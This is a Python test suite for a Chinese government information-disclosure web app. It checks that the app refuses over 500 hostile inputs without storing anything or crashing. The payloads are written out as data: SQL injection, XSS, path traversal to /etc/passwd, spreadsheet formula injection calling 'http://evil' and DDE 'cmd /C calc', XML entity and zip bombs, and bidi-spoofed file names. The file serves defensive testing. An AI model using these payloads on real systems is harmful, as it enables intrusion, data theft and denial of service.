"""test_hostile.py — the hostile-input suite of issue 12 (generated cases).

More than 500 malformed requests, files and command lines: bytes that are
not UTF-8, NUL, control and bidi characters, oversize fields, SQL and
script payloads in fields that have a format, path traversal in paths and
file names, wrong content types, broken multipart and chunked bodies,
impossible dates, formula cells in catalogue imports, zip and XML bombs in
XLSX/DOCX uploads, and the same kinds of input on the command line.

Every case must be answered with a 4xx status and a Chinese message (the
command line: exit status != 0 and a message on stderr), the server must
stay up, and nothing may be stored: each test compares a fingerprint of
the database (row count and content hash of every table, on SQLite or
PostgreSQL alike) before and after its cases.  Tables that record the attempt itself are left out of the
fingerprint: the login/submission throttles and sessions.

A few transport-level cases (malformed chunked framing) are refused by
libmicrohttpd itself, before gongkai sees a request: those must answer 4xx
or close the connection, and the server must stay up.
"""
import hashlib
import json
import os
import re
import urllib.parse
import uuid
import zipfile
import io

from harness import eq, ok

APPLY = "/o/znwsj/apply"
MESSAGES = "/o/znwsj/messages"
CJK = re.compile("[\u4e00-\u9fff]")
COUNT = {"n": 0}

# Tables that record attempts, not content (throttles, sessions, the audit
# of sign-ins): a refused request may legitimately add a row there.
NOT_CONTENT = {"session", "login_failure", "apply_attempt", "message_throttle",
               "audit_log", "sqlite_sequence", "sqlite_stat1"}


# The tables, from each backend's own catalogue (SQLite: FTS5 virtual
# tables left out, their shadow tables count).
TABLES = {
    False: "SELECT name FROM sqlite_master WHERE type='table'"
           " AND sql NOT LIKE 'CREATE VIRTUAL%'",
    True: "SELECT table_name FROM information_schema.tables"
          " WHERE table_schema=current_schema() AND table_type='BASE TABLE'",
}


def fingerprint(srv):
    """{table: (row count, hash of its rows)} of every content table, on
    either backend.  Rows are compared as a set (sorted), so a table whose
    rows merely moved (PostgreSQL rewrites a row on UPDATE) is unchanged.
    On PostgreSQL the hashes are made by the server in one statement (each
    psql call costs a process); on SQLite the rows are read and hashed
    here."""
    pg = bool(os.environ.get("GK_TEST_PG"))
    names = sorted(r[0] for r in srv.sql(TABLES[pg]) if r[0] not in NOT_CONTENT)
    if pg:
        q = " UNION ALL ".join(
            "SELECT '%s', count(*), coalesce(md5(string_agg(x::text, chr(10)"
            " ORDER BY x::text)), '') FROM \"%s\" x" % (t, t) for t in names)
        return {t: (n, h) for t, n, h in srv.sql(q)}
    fp = {}
    for t in names:
        rows = sorted(repr(row) for row in srv.sql('SELECT * FROM "%s"' % t))
        fp[t] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest())
    return fp


def same_db(srv, before):
    after = fingerprint(srv)
    diff = [t for t in set(before) | set(after) if before.get(t) != after.get(t)]
    ok(not diff, "database changed by refused input: %s" % sorted(diff))


def refused(status, text, what):
    COUNT["n"] += 1
    ok(400 <= status < 500, "%s: status %d: %s" % (what, status, text[-300:]))
    ok(CJK.search(text), "%s: no Chinese message: %s" % (what, text[-300:]))


# ---- hostile values --------------------------------------------------------

# Refused in any text field: not UTF-8, NUL, controls, bidi overrides,
# and one value longer than every field allows.
ANY_FIELD = [
    ("bad utf-8 ff", b"\xff\xfe\xfd"),
    ("bad utf-8 c3 28", b"\xc3\x28"),
    ("overlong slash", b"\xc0\xaf"),
    ("surrogate", b"\xed\xa0\x80"),
    ("truncated", "政".encode()[:2]),
    ("nul", b"a\x00b"),
    ("soh", "标题\x01".encode()),
    ("esc", "\x1b[31m红色".encode()),
    ("bell", "a\x07".encode()),
    ("vt", "a\x0bb".encode()),
    ("ff", "a\x0cb".encode()),
    ("del", "a\x7fb".encode()),
    ("lre", "\u202a文字".encode()),
    ("rle", "\u202b文字".encode()),
    ("pdf", "文字\u202c".encode()),
    ("lro", "\u202d文字".encode()),
    ("rlo", "\u202efdp.exe".encode()),
    ("lri", "\u2066文字".encode()),
    ("rli", "\u2067文字".encode()),
    ("fsi", "\u2068文字".encode()),
    ("pdi", "文字\u2069".encode()),
    ("oversize", ("字" * 70000).encode()),
]

# Refused in fields that have a format (codes, numbers, dates, choices).
FORMATTED = [
    ("sql quote", b"' OR '1'='1"),
    ("sql comment", b"1; DROP TABLE application; --"),
    ("sql union", b"1 UNION SELECT password_hash FROM user"),
    ("xss script", b"<script>alert(1)</script>"),
    ("xss img", b"\"><img src=x onerror=alert(1)>"),
    ("xss js url", b"javascript:alert(1)"),
    ("traversal", b"../../../../etc/passwd"),
    ("traversal win", b"..\\..\\windows\\win.ini"),
    ("format string", b"%s%s%s%n"),
    ("template", b"{{7*7}}${7*7}"),
    ("huge number", b"99999999999999999999999999"),
    ("negative", b"-1"),
]

# Impossible or implausible dates.
BAD_DATES = ["2024-02-30", "2023-13-01", "2023-00-10", "0000-00-00", "1900-01-01",
             "1949-09-30", "9999-12-31", "2024-2-3", "20240101", "2024/01/01",
             "2024-01-01' OR '1'='1", "２０２４-０１-０１", "2024-01-01T00:00", "昨天"]


def id_number(body17):
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    s = sum(int(c) * k for c, k in zip(body17, w))
    return body17 + "10X98765432"[s % 11]


def apply_form():
    return {
        "applicant_type": "natural_person", "name": "马建国",
        "id_kind": "resident_id", "id_number": id_number("64052119850312123"),
        "phone": "13995551234", "email": "majg@example.com",
        "address": "宁夏中宁县宁安镇东街12号", "postcode": "755100",
        "info_title": "基本药物采购目录", "info_doc_number": "",
        "info_description": "县卫健局制定的采购目录全文",
        "purpose": "了解政策", "form": "paper", "delivery": "post",
    }


def urlencoded(fields):
    return urllib.parse.urlencode(
        [(k, v if isinstance(v, bytes) else str(v).encode()) for k, v in fields.items()]).encode()


def post(c, path, fields, token, headers=None):
    f = dict(fields)
    f["_csrf"] = token
    h = {"Origin": "http://127.0.0.1:%d" % c.srv.port,
         "Content-Type": "application/x-www-form-urlencoded"}
    h.update(headers or {})
    return c.request("POST", path, body=urlencoded(f), headers=h)


def test_setup_raise_rate_limits(srv):
    """The cases below must reach the validation, not the per-address
    submission limit (which is tested in its own module)."""
    for name in ("application_rate_limit_per_hour", "message_rate_limit_per_hour"):
        rc, out, err = srv.gongkai("config", "set", name, "1000", "--db", srv.db)
        eq(rc, 0, err)


# ---- public forms ----------------------------------------------------------

def test_public_application_form(srv):
    c = srv.client()
    token = c.csrf(APPLY)
    before = fingerprint(srv)
    base = apply_form()
    text_fields = list(base)
    for field in text_fields:
        for what, v in ANY_FIELD:
            if field in ("info_doc_number",) and what == "oversize":
                v = ("字" * 70000).encode()
            r = post(c, APPLY, dict(base, **{field: v}), token)
            refused(r.status, r.text, "apply %s=%s" % (field, what))
    strict = ["applicant_type", "id_kind", "id_number", "phone", "email", "postcode",
              "form", "delivery"]
    for field in strict:
        for what, v in FORMATTED:
            r = post(c, APPLY, dict(base, **{field: v}), token)
            refused(r.status, r.text, "apply %s=%s" % (field, what))
    ok(srv.alive(), "server died")
    same_db(srv, before)


def test_public_message_form(srv):
    c = srv.client()
    token = c.csrf(MESSAGES)
    before = fingerprint(srv)
    base = {"box": "message", "subject": "测试标题", "body": "测试内容", "name": "",
            "contact": ""}
    for field in ("subject", "body", "name", "contact"):
        for what, v in ANY_FIELD:
            r = post(c, MESSAGES, dict(base, **{field: v}), token)
            refused(r.status, r.text, "message %s=%s" % (field, what))
    for what, v in FORMATTED:
        r = post(c, MESSAGES, dict(base, box=v), token)
        refused(r.status, r.text, "message box=%s" % what)
    same_db(srv, before)


def test_tracking_and_login_forms(srv):
    c = srv.client()
    token = c.csrf("/track")
    before = fingerprint(srv)
    for what, v in ANY_FIELD + FORMATTED:
        r = post(c, "/track", {"reg_no": v, "code": "0" * 20}, token)
        refused(r.status, r.text, "track reg_no=%s" % what)
        r = post(c, "/track", {"reg_no": "znwsj-2026-0001", "code": v}, token)
        refused(r.status, r.text, "track code=%s" % what)
    token = c.csrf("/login")
    for what, v in ANY_FIELD[:12]:
        r = post(c, "/login", {"login": v, "password": "x"}, token)
        refused(r.status, r.text, "login login=%s" % what)
    same_db(srv, before)


# ---- query strings and paths ----------------------------------------------

def test_query_strings_and_paths(srv):
    c = srv.client()
    staff = srv.client()
    staff.login("office")
    before = fingerprint(srv)
    for what, v in ANY_FIELD[:-1]:
        q = urllib.parse.quote_from_bytes(v)
        for path in ("/search?q=", "/o/znwsj/docs?category=", "/api/v1/search?q="):
            r = c.get(path + q)
            refused(r.status, r.text, "GET %s%s" % (path, what))
    for v in ["-1", "0", "abc", "1e3", "0x10", "1%27%20OR%20%271%27=%271", "99999999999999999999",
              "%00", "1.5", "%E4%B8%80"]:
        for path in ("/o/znwsj/docs?page=", "/search?q=%E5%8C%BB&page="):
            r = c.get(path + v)
            refused(r.status, r.text, "GET %s%s" % (path, v))
        r = staff.get("/staff/docs?page=" + v)
        refused(r.status, r.text, "GET /staff/docs?page=%s" % v)
    for path in ["/static/..%2f..%2f..%2fetc%2fpasswd", "/static/../../etc/passwd",
                 "/o/..%2f..%2fetc/docs", "/o/znwsj/d/..%2f..%2fetc%2fpasswd",
                 "/o/znwsj/d/1%00", "/o/znwsj%00/docs", "/o/znwsj/docs/page/-1",
                 "/o/znwsj/docs/page/461168601842738791", "/o/znwsj/docs/page/99999",
                 "/o/%E2%80%AEjswnz/docs", "/o/znwsj/d/9999999999999999999999",
                 "/o/znwsj/items/0/feed.atom", "/o/znwsj/items/-5/feed.atom",
                 "/o/no-such-org/docs", "/o/znwsj/d/%27%20OR%201=1"]:
        r = c.get(path)
        refused(r.status, r.text, "GET " + path)
    ok(srv.alive(), "server died")
    same_db(srv, before)


def test_wrong_content_types(srv):
    c = srv.client()
    token = c.csrf(MESSAGES)
    before = fingerprint(srv)
    body = urlencoded({"box": "message", "subject": "标题", "body": "内容", "_csrf": token})
    for ctype in ["application/json", "text/plain", "application/xml", "text/html",
                  "multipart/form-data", "multipart/form-data; boundary=",
                  "multipart/form-data; boundary=zz", "application/octet-stream",
                  "image/png", ""]:
        h = {"Origin": "http://127.0.0.1:%d" % srv.port}
        if ctype:
            h["Content-Type"] = ctype
        r = c.request("POST", MESSAGES, body=body, headers=h)
        refused(r.status, r.text, "POST content-type %r" % ctype)
    r = c.request("POST", MESSAGES, body=json.dumps({"subject": "x"}).encode(),
                  headers={"Origin": "http://127.0.0.1:%d" % srv.port,
                           "Content-Type": "application/json"})
    refused(r.status, r.text, "POST JSON to a form")
    same_db(srv, before)


def raw_status(srv, data):
    """Status of the answer to raw bytes, or None when the server closed
    the connection without one."""
    got = srv.raw(data)
    if not got:
        return None, ""
    try:
        return int(got.split(b" ", 2)[1]), got.decode("utf-8", "replace")
    except (IndexError, ValueError):
        return None, ""


def test_broken_multipart_and_chunking(srv):
    c = srv.client()
    token = c.csrf(MESSAGES)
    cookie = "; ".join("%s=%s" % kv for kv in c.cookies.items())
    before = fingerprint(srv)
    b = "gk" + uuid.uuid4().hex
    good = ('--%s\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n%s\r\n' % (b, token)).encode()
    bodies = {
        "no final boundary": good + b"--" + b.encode() + b"\r\nContent-Disposition: form-data; name=\"subject\"\r\n\r\nx",
        "part without headers": good + ("--%s\r\n\r\nhello\r\n--%s--\r\n" % (b, b)).encode(),
        "part without name": good + ("--%s\r\nContent-Disposition: form-data\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "unquoted name": good + ("--%s\r\nContent-Disposition: form-data; name=x\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "attachment disposition": good + ("--%s\r\nContent-Disposition: attachment; filename=\"a\"\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "filename with newline": good + ("--%s\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\nb.pdf\"\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "filename traversal": good + ("--%s\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "filename bidi": good + ("--%s\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"\u202efdp.exe\"\r\n\r\nx\r\n--%s--\r\n" % (b, b)).encode(),
        "garbage": b"\x00\x01\x02" * 100,
        "only boundary": ("--%s--\r\n" % b).encode(),
    }
    for what, body in bodies.items():
        head = ("POST %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\n"
                "Cookie: %s\r\nContent-Type: multipart/form-data; boundary=%s\r\n"
                "Content-Length: %d\r\nConnection: close\r\n\r\n"
                % (MESSAGES, srv.port, srv.port, cookie, b, len(body))).encode()
        status, text = raw_status(srv, head + body)
        ok(status is not None, "%s: no answer" % what)
        refused(status, text, "multipart " + what)
    # Chunked framing errors: refused by libmicrohttpd (or the connection
    # is closed); the server must stay up.
    for what, chunks in {
        "bad chunk size": b"zz\r\nabc\r\n0\r\n\r\n",
        "negative chunk size": b"-5\r\nabc\r\n0\r\n\r\n",
        "huge chunk size": b"ffffffffffffffffff\r\nabc\r\n0\r\n\r\n",
        "chunk longer than said": b"2\r\nabcdef\r\n0\r\n\r\n",
        "no terminator": b"3\r\nabc\r\n",
    }.items():
        head = ("POST %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\n"
                "Cookie: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                % (MESSAGES, srv.port, srv.port, cookie)).encode()
        status, text = raw_status(srv, head + chunks)
        COUNT["n"] += 1
        ok(status is None or 400 <= status < 500, "chunked %s: %s" % (what, status))
        ok(srv.alive(), "server died on chunked " + what)
    eq(srv.client().get("/").status, 200)
    same_db(srv, before)


# ---- staff: impossible dates ----------------------------------------------

def test_impossible_dates(srv):
    office = srv.client()
    office.login("office")
    token = office.csrf("/staff/applications/new")
    drafter = srv.client()
    drafter.login("drafter")
    dtoken = drafter.csrf("/staff/docs/new")
    before = fingerprint(srv)
    reg = dict(apply_form(), channel="post_signed", id_kind="passport", id_number="E12345678")
    doc = {"title": "日期", "body": "正文", "mode": "proactive", "formed_date": "2026-01-05",
           "genre": "通知", "report_kind": "other"}
    for d in BAD_DATES:
        r = post(office, "/staff/applications/new", dict(reg, event_day=d), token)
        refused(r.status, r.text, "register event_day=%s" % d)
        r = post(drafter, "/staff/docs/new", dict(doc, signed_date=d), dtoken)
        refused(r.status, r.text, "doc signed_date=%s" % d)
        r = post(drafter, "/staff/docs/new", dict(doc, formed_date=d), dtoken)
        refused(r.status, r.text, "doc formed_date=%s" % d)
    for what, v in ANY_FIELD:
        r = post(drafter, "/staff/docs/new", dict(doc, title=v), dtoken)
        refused(r.status, r.text, "doc title=%s" % what)
    r = post(drafter, "/staff/docs/new", dict(doc, title=" \u3000 "), dtoken)
    refused(r.status, r.text, "doc title blank")
    same_db(srv, before)


# ---- staff: files ---------------------------------------------------------

def xlsx(cells_xml, extra=None, shared=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        z.writestr("xl/worksheets/sheet1.xml",
                   '<?xml version="1.0"?><worksheet><sheetData>%s</sheetData></worksheet>'
                   % cells_xml)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def docx(document_xml, extra=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/word/document.xml" '
                   'ContentType="application/vnd.openxmlformats-officedocument.'
                   'wordprocessingml.document.main+xml"/></Types>')
        z.writestr("word/document.xml", document_xml)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
                    for i in range(1, 10))
          + ']>')
BOMB = b"\0" * (70 * 1024 * 1024)   # deflates to ~70 KB, inflates past every limit


def laughs_sheet():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("xl/worksheets/sheet1.xml",
                   LAUGHS + '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr">'
                   '<is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    return buf.getvalue()


def hostile_sheets():
    row = lambda v: ('<row r="1"><c r="A1" t="inlineStr"><is><t>序号</t></is></c>'
                     '<c r="B1" t="inlineStr"><is><t>信息名称</t></is></c></row>'
                     '<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>%s</t>'
                     '</is></c></row>' % v)
    return {
        "xlsx zip bomb": xlsx(row("名称"), extra={"xl/media/bomb.bin": BOMB}),
        "xlsx billion laughs sheet": laughs_sheet(),
        "xlsx billion laughs shared": xlsx(row("名称"), shared=LAUGHS + "<sst><si><t>&lol9;</t></si></sst>"),
        "xlsx control in cell": xlsx(row("名称&#1;")),
        "xlsx bidi in cell": xlsx(row("\u202e名称")),
        "xlsx not a zip": b"PK\x03\x04" + b"\xff" * 200,
        "xlsx empty zip": b"PK\x05\x06" + b"\0" * 18,
        "xls binary": b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 100,
    }


def test_catalogue_imports(srv):
    c = srv.client()
    c.login("office")
    org = [o["id"] for o in srv.client().get("/api/v1/orgs").json()["orgs"]
           if o["slug"] == "zn-cdc"][0]
    url = "/staff/catalogue/%d/import" % org
    before = fingerprint(srv)
    head = "序号,信息名称,内容描述,生成日期,公开时限,公开方式,责任部门\r\n"
    row = '1,%s,描述,2024-01-01,20个工作日内,政府网站,办公室\r\n'
    cells = ['"=1+1"', '"=cmd|\' /C calc\'!A0"', '"+cmd|x"', '"-2+3+cmd|x"', '"@SUM(1+1)"',
             '"=HYPERLINK(""http://evil"",""点我"")"', '"\t=1+1"', '"\r=1+1"',
             '"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")"', '"+A1"', '"-A1"',
             '"@A1"', '"=DDE(""cmd"";""/C calc"";""x"")"']
    files = {}
    for i, cell in enumerate(cells):
        files["csv formula %d" % i] = (head + row % cell).encode("utf-8")
        files["csv formula in col 3, %d" % i] = (head + '1,名称,%s,2024-01-01,20个工作日内,政府网站,办公室\r\n' % cell).encode("utf-8")
    for what, v in ANY_FIELD[5:-1]:
        files["csv " + what] = head.encode() + b"1," + v.replace(b'"', b"") + "，描述,2024-01-01,20个工作日内,政府网站,办公室\r\n".encode()
    for what, data in hostile_sheets().items():
        files[what] = data
    for what, data in files.items():
        name = "c.xlsx" if what.startswith("xls") else "c.csv"
        r = c.post(url, {"list": "proactive"}, files={"file": (name, data, "text/csv")},
                   csrf_from=url)
        refused(r.status, r.text, "catalogue import " + what)
    ok(srv.alive(), "server died")
    same_db(srv, before)


def test_document_attachments(srv):
    c = srv.client()
    c.login("drafter")
    token = c.csrf("/staff/docs/new")
    r = post(c, "/staff/docs/new", {"title": "附件测试", "body": "正文", "mode": "proactive",
                                    "formed_date": "2026-01-05", "genre": "通知",
                                    "report_kind": "other"}, token)
    eq(r.status, 303, r.text[-300:])
    doc = int(re.search(r"/staff/docs/(\d+)", r.headers["location"]).group(1))
    up = "/staff/docs/%d/attachments" % doc
    before = fingerprint(srv)
    body = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
    cases = {
        "docx zip bomb": ("a.docx", docx(body % "正文", extra={"word/media/bomb.bin": BOMB})),
        "docx billion laughs": ("a.docx", docx(LAUGHS + body % "&lol9;")),
        "docx entity in comments": ("a.docx", docx(body % "正文", extra={"word/comments.xml": LAUGHS + "<c/>"})),
        "xlsx zip bomb": ("a.xlsx", hostile_sheets()["xlsx zip bomb"]),
        "xlsx billion laughs": ("a.xlsx", hostile_sheets()["xlsx billion laughs shared"]),
        "exe renamed pdf": ("a.pdf", b"MZ\x90\x00" + b"\0" * 500),
        "html renamed pdf": ("a.pdf", b"<html><script>alert(1)</script></html>"),
        "svg with script": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "empty zip": ("a.docx", b"PK\x05\x06" + b"\0" * 18),
        "name with control": ("a\x01.pdf", b"%PDF-1.4\n%%EOF"),
        "name with bidi": ("\u202efdp.exe", b"%PDF-1.4\n%%EOF"),
        "name traversal": ("../../etc/passwd", b"%PDF-1.4\n%%EOF"),
        "name traversal win": ("..\\..\\x.pdf", b"%PDF-1.4\n%%EOF"),
    }
    for what, (name, data) in cases.items():
        r = c.post(up, {}, files={"file": (name, data, "application/octet-stream")},
                   csrf_from="/staff/docs/%d" % doc)
        refused(r.status, r.text, "attachment " + what)
    ok(srv.alive(), "server died")
    same_db(srv, before)


def test_public_application_attachment_names(srv):
    c = srv.client()
    before = fingerprint(srv)
    for name in ["../../etc/passwd", "..\\..\\boot.ini", "a\x01.txt", "\u202etxt.exe",
                 "a\x00b.txt", "..", "."]:
        r = c.post(APPLY, apply_form(), files={"attachment": (name, b"copy", "text/plain")},
                   csrf_from=APPLY)
        refused(r.status, r.text, "apply attachment name %r" % name)
    same_db(srv, before)


# ---- command line ---------------------------------------------------------

def cli_refused(rc, err, what):
    COUNT["n"] += 1
    ok(rc != 0, "%s: exit 0" % what)
    ok(err.strip(), "%s: no message" % what)


def test_command_line_inputs(srv):
    before = fingerprint(srv)
    # A NUL cannot be in a command-line argument at all.
    for what, v in [(w, v) for w, v in ANY_FIELD[:-1] if b"\0" not in v]:
        rc, out, err = srv.gongkai("user", "add", "--db", srv.db, "--org", "znwsj",
                                   "--login", v, "--name", "名字", "--role", "drafter")
        cli_refused(rc, err, "user add login=%s" % what)
        rc, out, err = srv.gongkai("config", "set", "site_name", v, "--db", srv.db)
        cli_refused(rc, err, "config site_name=%s" % what)
    good = {"title": "批量", "published_date": "2024-03-01", "body": "正文"}
    lines = {
        "not json": "{title: 1}",
        "nested": '{"title": "x", "published_date": "2024-01-01", "body": {"a": 1}}',
        "control": json.dumps(dict(good, title="a\u0001")),
        "nul escape": '{"title": "a\\u0000b", "published_date": "2024-01-01"}',
        "bidi": json.dumps(dict(good, title="\u202e标题")),
        "bad date": json.dumps(dict(good, published_date="2024-02-30")),
        "old date": json.dumps(dict(good, published_date="1900-01-01")),
        "future date": json.dumps(dict(good, published_date="2999-01-01")),
        "signed after": json.dumps(dict(good, signed_date="2024-03-05")),
        "traversal index": json.dumps(dict(good, index_number="../../etc")),
        "blank title": json.dumps(dict(good, title=" \u3000")),
        "sql kind": json.dumps(dict(good, report_kind="other' OR 1=1")),
    }
    for what, line in lines.items():
        path = os.path.join(srv.dir, "hostile.jsonl")
        with open(path, "w", encoding="utf-8") as f:
            f.write(json.dumps(good, ensure_ascii=False) + "\n" + line + "\n")
        rc, out, err = srv.gongkai("docs", "import", "--db", srv.db, "--org", "znwsj", path)
        cli_refused(rc, err, "docs import " + what)
    with open(os.path.join(srv.dir, "bad.jsonl"), "wb") as f:
        f.write(b'{"title": "\xff\xfe", "published_date": "2024-01-01"}\n')
    rc, out, err = srv.gongkai("docs", "import", "--db", srv.db, "--org", "znwsj",
                               os.path.join(srv.dir, "bad.jsonl"))
    cli_refused(rc, err, "docs import bad utf-8")
    for what, data in list(hostile_sheets().items()) + [
            ("csv formula", "序号,信息名称\r\n1,=1+1\r\n".encode()),
            ("csv control", "序号,信息名称\r\n1,名\x01称\r\n".encode())]:
        path = os.path.join(srv.dir, "cat." + ("xlsx" if what.startswith("xls") else "csv"))
        with open(path, "wb") as f:
            f.write(data)
        rc, out, err = srv.gongkai("catalogue", "import", "--org", "zn-cdc", path, "--db", srv.db)
        cli_refused(rc, err, "catalogue import " + what)
    ok(srv.alive(), "server died")
    same_db(srv, before)


def test_count_and_server_alive(srv):
    print("hostile cases refused: %d" % COUNT["n"])
    ok(COUNT["n"] >= 500, "only %d hostile cases ran" % COUNT["n"])
    eq(srv.client().get("/").status, 200)
    rc, out, err = srv.gongkai("ledger", "verify", "--db", srv.db)
    eq(rc, 0, err)
